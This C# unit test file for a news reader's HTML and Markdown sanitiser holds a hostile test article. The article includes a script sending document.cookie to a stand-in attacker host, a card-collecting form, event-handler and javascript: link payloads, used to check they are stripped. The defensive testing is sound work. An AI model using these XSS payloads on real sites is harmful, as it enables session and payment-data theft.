using System.Text;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using NewsReader.Articles;
using NewsReader.Extraction.Html;
using NewsReader.Extraction.Markdown;

namespace NewsReader.Tests.Extraction;

/// <summary>What a hostile page or Markdown file puts in its article must reach the reader as text, never as markup that runs.</summary>
public sealed class SanitizingTests
{
    private const string HostileArticle = """
        <h2 onclick="steal()">Council <em>approves</em> the plan</h2>
        <p>The council approved the plan on Tuesday after a long debate, and <a href="https://council.example/minutes">the minutes</a> are online.
        A <a href="javascript:alert(1)">tricky link</a>, a <a href="JaVaScRiPt:alert(2)">shouting link</a>, a <a href="data:text/html;base64,PHNjcmlwdD4=">data link</a>
        and <a href="/relative/page">a relative link</a> follow.</p>
        <script>document.location='https://evil.example/?c='+document.cookie</script>
        <style>body{display:none}</style>
        <iframe src="https://evil.example/frame"></iframe>
        <form action="https://evil.example/collect"><input name="card"><button>Pay</button></form>
        <p>Writing &lt;script&gt;alert(3)&lt;/script&gt; in a paragraph is only text, said the <strong onmouseover="x()">security adviser</strong>.</p>
        <p><img src="x" onerror="alert(4)">The photo failed to load, but the paragraph stays: <svg onload="alert(5)"><text>svg</text></svg> it goes on.</p>
        <ul><li>First point of the plan</li><li>Second point, with <code>code</code></li></ul>
        <blockquote><p>We will start in spring, the council leader said to the meeting.</p></blockquote>
        <table><tr><th>Year</th><th>Cost</th></tr><tr><td>2025</td><td>4m</td></tr></table>
        <figure><img src="a.jpg"><figcaption>The plan as drawn by the architects.</figcaption></figure>
        """;

    private static IDocument Render(string markdown) =>
        new HtmlParser().ParseDocument("<body>" + BodyRenderer.ToHtml(markdown) + "</body>");

    [Fact]
    public void Html_article_renders_with_its_structure_and_nothing_that_runs()
    {
        var article = HtmlPages.Parse("<title>Plan | Gazette</title><link rel=\"canonical\" href=\"https://gazette.example/plan\">", article: HostileArticle);
        var page = Render(article.BodyMarkdown);

        Assert.True(page.QuerySelectorAll("a").Any(a => a.TextContent == "the minutes"), article.BodyMarkdown);
        AssertNothingRuns(page);
        Assert.Equal("Council approves the plan", page.QuerySelector("h2")!.TextContent);
        Assert.NotNull(page.QuerySelector("h2 em"));
        Assert.Equal(2, page.QuerySelectorAll("li").Length);
        Assert.Contains("We will start in spring", page.QuerySelector("blockquote")!.TextContent, StringComparison.Ordinal);
        Assert.Equal(["Year", "Cost"], page.QuerySelectorAll("th").Select(th => th.TextContent.Trim()));
        Assert.DoesNotContain(page.QuerySelectorAll("p"), p => p.TextContent.Contains("The plan as drawn", StringComparison.Ordinal));
        Assert.Contains("![](a.jpg \"The plan as drawn by the architects.\")", article.BodyMarkdown, StringComparison.Ordinal); // the figure's caption, on its image
        Assert.Contains(page.QuerySelectorAll("p"), p => p.TextContent.Contains("Writing <script>alert(3)</script> in a paragraph is only text", StringComparison.Ordinal));

        var minutes = page.QuerySelectorAll("a").Single(a => a.TextContent == "the minutes");
        Assert.Equal("https://council.example/minutes", minutes.GetAttribute("href"));
        Assert.Equal("nofollow noopener noreferrer", minutes.GetAttribute("rel"));
        var relative = page.QuerySelectorAll("a").Single(a => a.TextContent == "a relative link");
        Assert.Equal("https://gazette.example/relative/page", relative.GetAttribute("href"));
        Assert.DoesNotContain("svg", article.Body.Single(b => b.StartsWith("The photo failed", StringComparison.Ordinal)), StringComparison.Ordinal);
    }

    [Fact]
    public void Markdown_with_raw_html_and_script_links_renders_safely()
    {
        var article = new MarkdownArticleParser().Parse(File.ReadAllBytes(Path.Combine(AppContext.BaseDirectory, "Fixtures", "markdown", "raw-html-inside.md")), "raw-html-inside.md");
        var page = Render(article.BodyMarkdown);

        AssertNothingRuns(page);
        Assert.Contains("<script>alert('stolen cookies')</script>", page.Body!.TextContent, StringComparison.Ordinal);
        var festival = page.QuerySelectorAll("a").Single(a => a.TextContent == "the festival site");
        Assert.Equal("nofollow noopener noreferrer", festival.GetAttribute("rel"));
        Assert.Equal(3, page.QuerySelectorAll("tr").Length);
    }

    [Fact]
    public void Text_that_looks_like_markdown_stays_text()
    {
        var article = HtmlPages.Parse("<title>t</title>", article: "<p>1. Not a list, # not a heading and *not emphasis* [not](a link) &gt; not a quote, said the notice on the door.</p><p>- Nor is this a list item, the notice went on to say in smaller print.</p>");
        var page = Render(article.BodyMarkdown);

        Assert.Empty(page.QuerySelectorAll("ol, ul, h1, h2, em, a, blockquote"));
        Assert.Equal("1. Not a list, # not a heading and *not emphasis* [not](a link) > not a quote, said the notice on the door.", page.QuerySelectorAll("p")[0].TextContent);
    }

    private static void AssertNothingRuns(IDocument page)
    {
        Assert.Empty(page.QuerySelectorAll("script, style, iframe, form, input, button, svg, img, object, embed"));
        foreach (var element in page.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.Attributes, a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase) || a.Name == "style");
            var href = element.GetAttribute("href");
            Assert.True(href is null || href.StartsWith("https://", StringComparison.Ordinal) || href.StartsWith("http://", StringComparison.Ordinal) || href.StartsWith("mailto:", StringComparison.Ordinal), $"Unsafe href {href}");
        }
    }
}
